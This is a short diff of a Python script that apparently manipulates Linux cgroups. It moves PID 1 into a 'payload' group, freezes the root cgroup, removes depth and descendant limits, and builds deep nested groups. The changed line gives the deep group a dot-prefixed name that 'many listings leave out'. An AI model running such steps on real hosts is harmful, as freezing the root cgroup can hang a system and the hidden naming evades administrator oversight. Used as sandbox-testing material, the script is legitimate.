@@ -30,7 +30,7 @@ def widen():
 print("reaper:", write("payload/cgroup.procs", "1"))
 print("freeze the root:", write("cgroup.freeze", "1"))
 print("deepen the root:", write("cgroup.max.depth", "max"), write("cgroup.max.descendants", "max"))
-print("deep:", deepen("x" * 250))
+print("deep:", deepen("." + "x" * 249)) # a name that many listings leave out
 os.mkdir(top + "/apart")
 os.mkdir(top + "/other")
 print("wide:", widen(), flush=True)
